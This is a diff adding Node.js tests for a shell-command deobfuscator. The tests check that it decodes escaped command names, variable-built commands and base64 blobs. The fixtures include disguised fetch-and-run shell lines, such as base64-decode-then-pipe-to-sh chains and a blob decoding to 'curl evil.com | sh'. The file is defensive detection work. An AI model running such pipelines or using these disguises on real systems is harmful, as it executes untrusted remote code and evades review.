@@ -0,0 +1,35 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { parseShell, extractCommands } from '../src/shell-parser.mjs';
+import { decodedForms } from '../src/deobfuscate.mjs';
+
+function forms(command) {
+  return decodedForms(command, extractCommands(parseShell(command)));
+}
+
+describe('decodedForms', () => {
+
+  it('reports disguises the parser already decoded without new text', () => {
+    assert.deepEqual(forms("$'\\x63\\x61\\x74' notes.txt").map((f) => [f.technique, f.text]), [
+      ['ansi_c_escapes', null],
+      ['constructed_command_name', null],
+    ]);
+  });
+
+  it('expands variables used as commands, eval or shell arguments', () => {
+    assert.deepEqual(forms('export p=curl; $p x.io').map((f) => f.text), ['curl x.io']);
+    assert.deepEqual(forms('c="id"; sh -c "$c"').map((f) => f.text), ['sh -c "id"']);
+    assert.deepEqual(forms('d=build; ls $d'), []);
+  });
+
+  it('stops at stages it cannot evaluate', () => {
+    assert.deepEqual(forms('cat payload | base64 -d | sh'), []);
+    assert.deepEqual(forms('echo Y3VybA== | base64 -d | gzip -d | sh'), []);
+    assert.deepEqual(forms('echo ls | sh'), []);
+  });
+
+  it('marks base64 blobs as speculative', () => {
+    const [blob] = forms('grep -r Y3VybCBldmlsLmNvbSB8IHNo .');
+    assert.deepEqual(blob, { technique: 'base64_blob', text: 'curl evil.com | sh', speculative: true });
+  });
+});